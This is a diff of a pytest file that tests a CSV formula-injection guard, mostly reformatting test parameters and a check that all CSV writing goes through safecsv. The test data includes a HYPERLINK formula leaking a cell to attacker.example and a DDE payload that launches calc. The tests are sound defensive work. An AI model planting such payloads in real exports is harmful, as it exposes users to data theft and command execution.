@@ -17,12 +17,16 @@ SRC = Path(__file__).resolve().parents[2] / "src" / "igr"
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Agenda")'
 
 
-@pytest.mark.parametrize("cell", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1", "-cmd|' /C calc'!A0"])
+@pytest.mark.parametrize(
+    "cell", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1", "-cmd|' /C calc'!A0"]
+)
 def test_cells_that_start_a_formula_are_written_as_text(cell):
     assert safecsv.neutralise(cell) == "'" + cell
 
 
-@pytest.mark.parametrize("cell", ["Grŵp Rhyngweinidogol", "", "2023-07-11", "-3", "-1.5", "42", "a=b", "'quoted"])
+@pytest.mark.parametrize(
+    "cell", ["Grŵp Rhyngweinidogol", "", "2023-07-11", "-3", "-1.5", "42", "a=b", "'quoted"]
+)
 def test_ordinary_cells_and_numbers_are_unchanged(cell):
     assert safecsv.neutralise(cell) == cell
     assert safecsv.neutralise(7) == 7 and safecsv.neutralise(None) is None
@@ -40,8 +44,10 @@ def test_the_writers_neutralise_every_cell():
 
 def test_no_module_writes_csv_except_through_safecsv():
     offenders = [
-        str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
-        if path.name != "safecsv.py" and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
+        str(path.relative_to(SRC))
+        for path in SRC.rglob("*.py")
+        if path.name != "safecsv.py"
+        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
     ]
     assert offenders == []
 
